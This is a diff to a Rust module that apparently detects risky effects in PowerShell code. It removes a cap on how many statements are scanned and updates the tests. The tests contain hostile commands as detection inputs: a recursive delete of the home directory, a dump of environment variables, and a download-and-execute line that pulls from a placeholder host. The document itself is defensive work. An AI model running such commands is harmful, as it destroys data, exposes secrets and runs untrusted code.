@@ -4,9 +4,6 @@
 use super::{Action, Actions, ShellInput};
 use guardian_rules::EffectKind;
 
-/// So many statements are looked at.
-const MOST: usize = 64;
-
 /// What removes, and what else it is called.
 const REMOVERS: &[&str] = &["Remove-Item", "rm", "ri", "del", "erase", "rd", "rmdir"];
 
@@ -42,7 +39,7 @@ pub(super) fn look(code: &str, actions: &mut Actions) {
         actions.push(Action::on(EffectKind::Execute, "a download"));
     }
     let lists = |word: &str| is(&["Get-ChildItem", "gci", "dir", "ls", "Get-Item", "gi"], word);
-    for line in code.split(['\n', ';', '{', '}']).take(MOST) {
+    for line in code.split(['\n', ';', '{', '}']) {
         let mut before = "";
         for statement in line.split('|') {
             let mut words = statement.split_whitespace();
@@ -119,10 +116,11 @@ mod tests {
         ] {
             let found = actions(Role::Code, code);
             let commands: Vec<_> =
-                found.iter().filter(|a| a.shell.is_some()).filter_map(|a| a.target.as_deref()).collect();
+                found.list.iter().filter(|a| a.shell.is_some()).filter_map(|a| a.target.as_deref()).collect();
             assert!(commands.contains(&expected), "{code}: {commands:?}");
         }
-        let kinds = |code: &str, kind| actions(Role::Code, code).iter().any(|a| a.kind == kind && a.shell.is_none());
+        let kinds =
+            |code: &str, kind| actions(Role::Code, code).list.iter().any(|a| a.kind == kind && a.shell.is_none());
         assert!(kinds("Get-ChildItem ~ -Recurse | Remove-Item", EffectKind::Delete));
         assert!(kinds("gci env:", EffectKind::Reveal));
         assert!(kinds("iwr https://x.example/a | iex", EffectKind::Execute));
